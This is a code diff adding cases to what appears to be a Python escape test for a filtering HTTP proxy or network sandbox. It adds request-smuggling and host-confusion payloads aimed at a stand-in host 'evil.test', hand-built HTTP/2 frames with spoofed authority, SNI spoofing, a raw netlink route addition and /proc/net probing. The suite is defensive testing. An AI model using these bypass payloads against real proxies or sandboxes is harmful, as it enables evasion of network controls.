@@ -218,6 +218,41 @@ def proxy_in_proxy(): s, _ = con('plain.test:80'); s.sendall(b'GET http://evil.t
 @way
 def pipelined_connect(): return evil(ask('CONNECT plain.test:80 HTTP/1.1\r\n\r\nCONNECT evil.test:80 HTTP/1.1\r\n\r\n' + PLAIN)) or evil(ask('GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n'))
 ways_of('upgrade', ['h2c', 'TLS/1.0', 'foo', 'websocket, h2c'], lambda u: (lambda b: b[:12] == b'HTTP/1.1 101' and b)(get('http://plain.test/upgrade', None, f'Upgrade: {u}\r\nConnection: Upgrade, close\r\nX: ')))
+ODD = [b'GET HTTP://EVIL.test/ HTTP/1.1\r\nHost: plain.test', b'GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: evil.test', b'GET http://evil.test/ HTTP/1.0', b'GET http://evil.test/',
+    b'GET / HTTP/1.1\r\nHost: plain.test\r\n evil.test', b'GET http://plain.test/ HTTP/1.1\nHost: evil.test\n', b'GET http://plain.test\t@evil.test/ HTTP/1.1\r\nHost: plain.test', b'GET //evil.test/ HTTP/1.1\r\nHost: plain.test',
+    b'GET http://plain.test:80:evil.test/ HTTP/1.1\r\nHost: plain.test', b'GET http://[plain.test]/ HTTP/1.1\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nX-Forwarded-Host: evil.test\r\nForwarded: host=evil.test', b'GET ftp://evil.test/ HTTP/1.1\r\nHost: evil.test',
+    b'GET https://evil.test/ HTTP/1.1\r\nHost: evil.test', b'OPTIONS * HTTP/1.1\r\nHost: evil.test', b'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nExpect: 100-continue\r\nContent-Length: 0\r\n\r\n\5\1\0\5\1\0\3\x09evil.test\0\x50', b'GET http://evil.test/upgrade HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade', b'CONNECT plain.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test']
+ways_of('odd', ODD, lambda b: evil(ask(b + b'\r\nConnection: close\r\n\r\n')))
+def frame(kind, flags, stream, b): return len(b).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + b
+def field(k, v): return b'\0' + bytes([len(k)]) + k + bytes([len(v)]) + v
+def h2(*fields): return b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, b'') + frame(1, 5, 1, b''.join(field(*f) for f in fields)) + frame(7, 0, 0, bytes(8))
+AT = [(b':method', b'GET'), (b':scheme', b'https'), (b':path', b'/v1/x')]
+ways_of('h2', [AT + [(b':authority', b'evil.test')], AT + [(b':authority', b'example.com'), (b'host', b'evil.test')], AT + [(b'host', b'evil.test')], [(b':method', b'CONNECT'), (b':authority', b'evil.test:443')], [(b':method', b'CONNECT'), (b':protocol', b'websocket')] + AT[1:] + [(b':authority', b'example.com')],
+    AT[:2] + [(b':path', b'https://evil.test/'), (b':authority', b'example.com')], AT[:2] + [(b':path', b'*'), (b':authority', b'example.com')], AT[:2] + [(b':path', b'/v1/../admin'), (b':authority', b'example.com')], AT + [(b':authority', b'example.com'), (b'transfer-encoding', b'chunked')]], lambda f: evil(inside('example.com:443', 'example.com', h2(*f), ['h2'])) or leak(inside('example.com:443', 'example.com', h2(*f), ['h2'])))
+@way
+def h2_in_the_clear(): return evil(ask(h2((b':method', b'GET'), (b':scheme', b'http'), (b':path', b'/'), (b':authority', b'evil.test'))))
+@way
+def tls_to_proxy():
+    c = ssl._create_unverified_context(); c.check_hostname = False
+    with c.wrap_socket(px(), server_hostname='evil.test') as t: t.sendall(PLAIN.encode()); return evil(rest(t))
+@way
+def netlink(): # an address and a route of the program's own
+    s = socket.socket(16, socket.SOCK_RAW, 0); s.settimeout(2); s.sendall(struct.pack('=IHHII', 24, 20, 0x605, 1, 0) + struct.pack('=BBBBI', 2, 24, 0, 0, 1)); b = s.recv(99); return struct.unpack('=i', b[16:20])[0] == 0
+@way
+def connections_of_others(): # in files of the kernel
+    for name in 'tcp', 'tcp6', 'unix', 'route', 'arp':
+        try: text = open('/proc/net/' + name).read()
+        except OSError: continue
+        if '%04X' % L['canary'] in text or L['unix'] in text: return name
+@way
+def many_at_once():
+    def burst():
+        fds = [libc.socket(2, 1, 0) for _ in range(80)]; [libc.sendto(fd, b'x', 1, 0x4000, sin(L['canary']), 16) for fd in fds if fd >= 0]; [os.close(fd) for fd in fds if fd >= 0]
+    pids = [os.fork() for _ in range(3)]
+    if 0 in pids:
+        try: burst()
+        finally: os._exit(0)
+    [os.waitpid(p, 0) for p in pids]
 @way
 def huge_head(): return hello(get('http://plain.test/', None, 'X: ' + 'y' * (1 << 20) + '\r\n'))
 @way
